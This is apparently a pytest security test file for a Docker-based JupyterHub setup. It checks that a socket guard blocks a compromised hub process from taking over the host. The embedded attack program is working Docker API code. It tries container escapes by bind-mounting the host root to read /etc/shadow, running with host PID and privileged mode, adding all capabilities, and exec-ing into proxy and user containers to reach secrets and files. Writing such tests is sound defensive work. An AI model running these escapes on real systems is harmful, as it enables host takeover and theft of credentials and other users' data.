"""Whoever has taken over the hub's process, and wants the machine: with the guard, and with the socket in its place."""

from __future__ import annotations

import json
from collections.abc import Iterator

import pytest
from machine import playbook
from sessions import ClientFactory
from testinfra.host import Host

# Run by the hub's own Python in the hub's container; prints what the attacker wants to see, or why it is not there.
PROGRAM = """
import io, os, sys, tarfile
import docker
from docker.types import Mount

engine = docker.APIClient(os.environ.get("DOCKER_HOST", "unix:///var/run/docker.sock"), version="auto", timeout=60)
PROJECT, IMAGE = "jupyterhub-home", sys.argv[2]

def run(command, name="jhh-attack", **host):
    made = engine.create_container(
        IMAGE, name=name, user="0", entrypoint=["sh", "-c", command], host_config=engine.create_host_config(**host)
    )
    try:
        engine.start(made["Id"])
        engine.wait(made["Id"])
        return engine.logs(made["Id"]).decode()
    finally:
        engine.remove_container(made["Id"], force=True)

def archive(container, path):
    stream, _ = engine.get_archive(container, path)
    return tarfile.open(fileobj=io.BytesIO(b"".join(stream))).next().name

def volume(name):
    engine.create_volume(name)
    engine.remove_volume(name)
    return "made"

def executed(container, command):
    return engine.exec_start(engine.exec_create(container, command)["Id"]).decode()

def commit(container):
    made = engine.commit(container, "jhh-attack")
    engine.remove_image("jhh-attack")
    return "made"

root = {"Name": "local", "Options": {"type": "none", "o": "bind", "device": "/"}}
shadow = "cat /host/etc/shadow"
goals = {
    "the machine's passwords, by a bind": lambda: run(shadow, binds=["/:/host"]),
    "the machine's passwords, by a mount": lambda: run(shadow, mounts=[Mount("/host", "/", "bind")]),
    "the machine's passwords, by a volume's driver": lambda: run(
        shadow, mounts=[Mount("/host", None, "volume", driver_config=root)]
    ),
    "the machine's passwords, by its processes": lambda: run(
        "cat /proc/1/root/etc/shadow", pid_mode="host", privileged=True
    ),
    "the machine's network": lambda: run("ls /sys/class/net", network_mode="host"),
    "all capabilities": lambda: run("grep CapEff /proc/self/status", cap_add=["ALL"]),
    "a user's files, by a volume": lambda: run(
        "ls -d /host && echo root:", mounts=[Mount("/host", f"{PROJECT}-user-bob-home", "volume")]
    ),
    "a user's files, by their container": lambda: run("ls -d /home/jovyan/work", volumes_from=[f"{PROJECT}-user-bob"]),
    "a container under the name of a declared one": lambda: run(
        shadow, name=f"{PROJECT}-user-alice", binds=["/:/host"]
    ),
    "a command in the proxy": lambda: executed(f"{PROJECT}-proxy", ["ls", "/run/secrets/proxy-token"]),
    "a command in a user's server": lambda: executed(f"{PROJECT}-user-bob", ["ls", "-d", "/home/jovyan/work"]),
    "a file out of the proxy": lambda: archive(f"{PROJECT}-proxy", "/opt/proxy/entry.js"),
    "what the proxy logs": lambda: engine.logs(f"{PROJECT}-proxy") and "logged",
    "what the guard was started with": lambda: engine.inspect_container(f"{PROJECT}-guard")["Path"],
    "all containers": lambda: engine.containers()[0]["Id"],
    "all volumes": lambda: engine.volumes()["Volumes"][0]["Name"],
    "a volume": lambda: volume("jhh-attack"),
    "a copy of the guard as an image": lambda: commit(f"{PROJECT}-guard"),
    "more memory for the hub": lambda: str(
        engine.update_container(f"{PROJECT}-hub", mem_limit="2g", memswap_limit="2g")
    ),
    "a network": lambda: engine.remove_network(engine.create_network("jhh-attack")["Id"]) or "made",
    "the socket itself": lambda: str(os.stat("/var/run/docker.sock")),
}
try:
    print("GOT", goals[sys.argv[1]]())
except Exception as error:
    print("NOT", type(error).__name__, str(error)[:300])
"""
GOALS = {
    "the machine's passwords, by a bind": "root:",
    "the machine's passwords, by a mount": "root:",
    "the machine's passwords, by a volume's driver": "root:",
    "the machine's passwords, by its processes": "root:",
    "the machine's network": "docker0",
    "all capabilities": "CapEff:",
    "a user's files, by a volume": "root:",
    "a user's files, by their container": "/home/jovyan/work",
    "a container under the name of a declared one": "root:",
    "a command in the proxy": "/run/secrets/proxy-token",
    "a command in a user's server": "/home/jovyan/work",
    "a file out of the proxy": "entry.js",
    "what the proxy logs": "logged",
    "what the guard was started with": "python",
    "all containers": "",
    "all volumes": "",
    "a volume": "made",
    "a copy of the guard as an image": "made",
    "more memory for the hub": "Warnings",
    "a network": "made",
    "the socket itself": "st_mode",
}


@pytest.fixture(scope="module", params=[True, False], ids=["guarded", "with the socket"])
def guarded(request: pytest.FixtureRequest, host: Host, serve: ClientFactory) -> Iterator[bool]:
    """Whether there is a guard; bob has a server. The hub is as it was in the end."""
    if not request.param:
        assert playbook(host, {"jupyterhub_home_guard": False}, shared=False).returncode == 0
    serve("bob")
    yield request.param
    if not request.param:
        assert playbook(host, {}, shared=False).returncode == 0


@pytest.mark.parametrize("goal", GOALS)
def test_from_inside_the_hub(host: Host, guarded: bool, goal: str) -> None:
    image = json.loads(host.file("/opt/jupyterhub-home/hub/spawner.json").content_string)["image"]
    # The hub's own environment and user, as its own processes have them.
    host.check_output(f"cat >/root/attack.py <<'END'\n{PROGRAM}\nEND")
    command = f'docker exec -i jupyterhub-home-hub python - "{goal}" "{image}" </root/attack.py'
    said = host.check_output(command).strip()
    assert said.startswith("NOT " if guarded else "GOT "), said
    assert guarded or GOALS[goal] in said, said


def test_what_the_hub_may_still_do(host: Host, guarded: bool, serve: ClientFactory) -> None:
    """Both times; an attack that was stopped because nothing works is none."""
    assert serve("bob").run("print(6 * 7)").strip() == "42"
